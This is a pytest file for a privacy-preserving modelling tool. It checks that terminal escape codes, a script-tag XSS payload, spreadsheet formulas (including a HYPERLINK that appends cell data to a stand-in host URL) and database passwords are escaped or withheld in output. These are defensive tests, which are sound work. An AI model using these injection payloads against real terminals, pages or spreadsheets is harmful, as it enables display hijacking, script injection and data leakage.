"""Names that a terminal would obey or a spreadsheet compute, and passwords, go nowhere as such."""

import csv
import io
import json
import os
import pty
import re
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from commanding import COLUMNS, COMMAND, DECLARED, FEW, people, write_table
from dplasso import load
from dplasso.base.terminal import printable, printable_lines
from dplasso.cli.federated_margins import Margins, combined, table
from dplasso.federated.model import PartyModel
from dplasso.federated.rows import PartyRows
from dplasso.federated.service import _by_name
from dplasso.ledger import Budget
from dplasso.ledger.stores import store_of
from dplasso.report import write_report
from dplasso.storage.spreadsheet import cell, marked, unmarked

CLEAR = "\x1b[2J"  # clears the screen
REORDER = "\u202e"  # what follows is read from the right
WINDOW = "\x9d0;title\x9c"  # names the window, by C1 controls
HOSTILE = (CLEAR, REORDER, WINDOW, "\r", "\x07", "\u2066", "\x7f")
FORMULA = '=HYPERLINK("http://x.example/"&A1)'


def obeyed(text):
    """Characters of a text that are not shown."""
    return [sign for sign in text if not sign.isprintable() and sign != "\n"]


@given(st.text())
def test_printable_text_is_one_line_that_a_terminal_shows_and_can_be_encoded(text):
    shown = printable(text)
    assert shown.isprintable() and shown.encode().decode() == shown
    assert printable(shown) == shown and (shown == text) == text.isprintable()
    lines = printable_lines(text, "  ")
    assert not obeyed(lines) and all(line.startswith("  ") for line in lines.split("\n")[1:])


@pytest.fixture
def hostile(tmp_path, good):
    """A table with names that are hostile in every place, and a model of it."""
    rows = [
        {
            f"{CLEAR}age": row["age"],
            "town": row["town"],
            f"note{REORDER}": row["note"],
            f"sick{WINDOW}": FORMULA if row["sick"] == "yes" else f"@no{CLEAR}\rerror: fine",
            "id": f"={k}" if k % 2 else f"-{k}",
        }
        for k, row in enumerate(people())
    ]
    data, model = write_table(tmp_path / f"rows{CLEAR}.csv", rows), tmp_path / f"m{REORDER}.dpl"
    names = ("--target", f"sick{WINDOW}", "--ignore", "id", "--text", f"note{REORDER}", "-e", 10)
    given_bounds = ("--bounds", f"{CLEAR}age=0:120", "--buckets", 16, *FEW)
    said = good("train", data, "-o", model, *names, *given_bounds)
    assert not obeyed(said) and "age" in said
    return data, model


def test_names_and_classes_and_paths_are_shown_and_not_obeyed(tmp_path, hostile, run):
    data, model = hostile
    for command in (
        ("inspect", model),
        ("inspect", model, "--top", 1000),
        ("inspect", model, "--bucket", "town=Ulm"),
        ("inspect", model, "--bucket", f"{CLEAR}=1"),
        ("inspect", f"{model}{CLEAR}"),
        ("evaluate", model, data),
        ("report", model, "-o", tmp_path / f"{CLEAR}.html"),
        ("export", model, "-o", tmp_path / f"{CLEAR}.onnx"),
        ("export", model, "-o", tmp_path / f"{CLEAR}.csv"),
        ("train", data, "-o", tmp_path / "x", "--target", f"none{CLEAR}"),
        ("convert", data, "-o", tmp_path / f"{CLEAR}", "--target", f"sick{WINDOW}"),
        ("inspect", tmp_path / f"{CLEAR}"),
        ("predict", model, tmp_path / f"none{CLEAR}\nerror: forged"),
        ("train", f"--{CLEAR}{REORDER}{WINDOW}"),
        ("train", data, "-o", model, "--rows", f"1{REORDER}"),
        (f"{CLEAR}{REORDER}",),
    ):
        done = run(*command)
        assert not obeyed(done.out + done.err), command
        assert not re.search("^error: f", done.out + done.err, re.MULTILINE)
    assert "\\x1b[2Jage" in run("inspect", model, "--top", 1000).out


def test_labels_in_a_ledger_and_remarks_of_parties_are_shown_and_not_obeyed(tmp_path, run, capsys):
    from dplasso.cli.federated import _show_status

    class Seen:
        server, up_since = f"localhost{CLEAR}", "now"
        parties = {f"clinic{REORDER}": True}

        class Job:
            job, submitted, state, rounds_done, rounds = "1", "now", "failed", 3, 9
            remarks = f"refused{CLEAR}\nerror: forged"

        jobs = [Job]

    _show_status(Seen)
    said = capsys.readouterr().out
    assert not obeyed(said) and "\nerror" not in said
    ledger = tmp_path / "budget.sqlite"
    assert run("budget", "init", ledger, "--epsilon", 1, "--delta", 1e-6).code == 0
    done = run("budget", "show", f"{ledger}{CLEAR}")
    assert done.code == 1 and not obeyed(done.err)


def test_predictions_on_a_terminal_are_shown_and_not_obeyed(hostile):
    data, model = hostile
    ours, theirs = pty.openpty()
    given = [COMMAND, "predict", model, data, "--id", "town", "--proba", "-q"]
    with subprocess.Popen(given, stdout=theirs, stderr=theirs) as process:
        os.close(theirs)
        said = b""
        while True:
            try:
                said += os.read(ours, 1 << 16)
            except OSError:  # the other end is closed
                break
        assert process.wait() == 0
    os.close(ours)
    assert b"\x1b[2J" not in said and b"\\x1b[2J" in said and b"\t" in said


def test_json_for_machines_holds_no_control_characters(hostile, good):
    data, model = hostile
    said = good("inspect", model, "--json")
    assert not obeyed(said)
    names = [row[0] for row in json.loads(said)["largest"]]
    assert all(name in set(load(model).feature_names_in_) for name in names)


def test_a_page_escapes_names_classes_title_and_files(tmp_path, good):
    script = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
    rows = [
        {f"age{script}": row["age"], "sick": script if row["sick"] == "yes" else "no"}
        for row in people()
    ]
    data, model = write_table(tmp_path / "rows.csv", rows), tmp_path / "m.dpl"
    good("train", data, "-o", model, "--target", "sick", "--bounds", f"age{script}=0:120", *FEW)
    page = tmp_path / "page.html"
    fitted = load(model)
    fitted.table_plan_["target"] = script
    write_report(page, fitted, model_file=model, title=script)
    html = page.read_text("utf-8")
    assert "&lt;script&gt;" in html and "<script>alert" not in html and "<img" not in html
    good("report", model, "-o", page, "--public-data", data, "--force")
    html = page.read_text("utf-8")
    assert "&lt;script&gt;" in html and "<script>alert" not in html and "<img" not in html


# Spreadsheets.

SIGNS = "=+-@\t\r"
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")
words = st.text(st.sampled_from("=+-@\t\r',;|\"ab 1.eE\n＝"), max_size=8)


@settings(max_examples=500)
@given(words)
def test_marked_texts_are_no_formulas_and_can_be_told_apart(text):
    shown = marked(text)
    assert unmarked(shown) == text
    assert (shown == text) if NUMBER.fullmatch(text) else shown[:1] not in set(SIGNS)


def cells_of(line, separator):
    return next(csv.reader(io.StringIO(line, newline=""), delimiter=separator, strict=True))


@settings(max_examples=500)
@given(st.lists(words, min_size=2, max_size=3), st.sampled_from(",\t"), st.sampled_from(",;|\t"))
def test_a_cell_is_one_and_no_formula_whichever_separator_a_spreadsheet_guesses(
    texts, separator, guessed
):
    line = separator.join(cell(text, separator) for text in texts)
    assert cells_of(line, separator) == list(map(marked, texts))
    for text in filter(None, texts):
        for part in cells_of(cell(text, separator), guessed):
            assert part.lstrip()[:1] not in set("=+-@＝\t\r") or NUMBER.fullmatch(part)


@pytest.mark.parametrize("proba", [(), ("--proba",)])
def test_identifiers_and_classes_in_predictions_are_no_formulas(tmp_path, hostile, good, proba):
    data, model = hostile
    out = tmp_path / "out.tsv"
    good("predict", model, data, "--id", "id", "-o", out, *proba)
    with open(out, newline="", encoding="utf-8") as file:
        lines = list(csv.reader(file, delimiter="\t"))
    assert lines[1][0] == "-0" and lines[2][0] == "'=1" and lines[3][0] == "-2"
    assert all(len(line) == len(lines[0]) for line in lines)
    told = lines[0][1:] if proba else [line[1] for line in lines[1:]]
    assert set(told) <= {f"'{FORMULA}", f"'@no{CLEAR} error: fine"}
    good("predict", model, data, "--id", "id", "-o", out, "--raw", *proba, "--force")
    raw = out.read_text("utf-8")
    assert "\n=1\t" in raw and "'" not in raw


def test_numbers_are_never_marked(tmp_path, model, text, good):
    assert set(good("predict", model, text).split()) == {"-1", "1"}


def test_margins_of_hostile_identifiers_add_up_as_those_of_others_do(tmp_path):
    identifiers = ["=1", "'=1", "-5", "'-5", "+a", "@x", "a,=b", 'q"', "tab\there", "plain"]
    for name, value in (("a.csv", 1.0), ("b.csv", 0.5)):
        rows = Margins([(known, [value]) for known in identifiers])
        (tmp_path / name).write_bytes(table(rows, "margin"))
    old = "".join(f'"{known.replace(chr(34), chr(34) * 2)}",2.0\n' for known in ("=1", "plain"))
    (tmp_path / "before.csv").write_text(f"id,margin\n{old}")  # when nothing was marked
    found = combined([tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "before.csv"])
    sums = {name: [3.5 if name in ("=1", "plain") else 1.5] for name in identifiers}
    assert dict(found.rows) == sums
    assert [name for name, _ in found.rows] == identifiers
    written = table(found, "prediction").decode()
    assert not re.search("(?m)^[=+@]", written) and "\n'=1,3.5\n" in written
    assert "\n=1,3.5\n" in table(found, "prediction", raw=True).decode()


def test_coefficients_of_a_party_are_no_formulas():
    import numpy as np

    names = ["=1+1", "town, -x", "age"]
    rows = PartyRows(X=None, y=None, identifiers=[], features=names, bounds=np.ones(3))
    model = PartyModel("shop", "job", 1.0, 3, [0, 1, 2], [0.5, -0.25, 1.0], 0.0)
    lines = list(csv.reader(_by_name(model, rows).decode().splitlines()))
    assert lines == [
        ["feature", "coefficient"],
        ["'=1+1", "0.5"],
        ["town, -x", "-0.25"],
        ["age", "1.0"],
    ]


# Passwords.


@pytest.mark.parametrize(
    "address",
    [
        "host=db.example password=hunter2 dbname=study",
        "//ann:hunter2@db.example/study",
        "dbname = study user=me password = 'hunter2'",
        " user=me password=hunter2",
        "application_name=x password=hunter2",
        "postgresql:/me:hunter2@db.example/study",
        "POSTGRESQL://me:hunter2@db.example/study",
        " postgresql://me:hunter2@db.example/study",
        "postgresql+psycopg://me:hunter2@db.example/study",
        "me:hunter2@db.example:5432/study",
        "me:hunter2@db.example",
        "host=x password=hunter2 options=a://b",
        "mysql://me:hunter2@db.example/study",
        "postgresql://me:hun#ter2hunter2@db.example/study",
    ],
)
def test_a_connection_string_is_no_file_name_and_its_password_is_not_said(
    tmp_path, text, run, monkeypatch, address
):
    monkeypatch.chdir(tmp_path)
    before = sorted(os.listdir(tmp_path))
    for make in (store_of, Budget.open, lambda store: Budget(1.0, 1e-6, store=store)):
        with pytest.raises(ValueError) as refused:
            make(address)
        assert "hunter2" not in str(refused.value)
    for command in (
        ("budget", "init", address, "--epsilon", 1, "--delta", 1e-6),
        ("budget", "show", address),
        ("train", text, "-o", tmp_path / "m", *DECLARED, "--budget", address),
        ("online", text, "--features", COLUMNS, "--classes", "-1,1", "--budget", address),
    ):
        done = run(*command)
        assert done.code == 1 and "hunter2" not in done.out + done.err
    left = sorted(name for name in os.listdir(tmp_path) if name != "dplasso-state")
    assert left == before and "hunter2" not in "".join(left)


def test_a_path_that_looks_like_a_connection_is_a_path_once_it_says_so(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Budget(1.0, 1e-6, store="./user=me.sqlite")
    Budget(1.0, 1e-6, store="a=b.sqlite")
    assert sorted(os.listdir(tmp_path)) == ["a=b.sqlite", "user=me.sqlite"]


def test_a_name_that_is_no_text_is_shown_as_far_as_it_can_be(run):
    done = run("inspect", os.fsdecode(b"\xff\x1b[2J"))
    assert done.code == 1 and not obeyed(done.err) and "defect" not in done.err
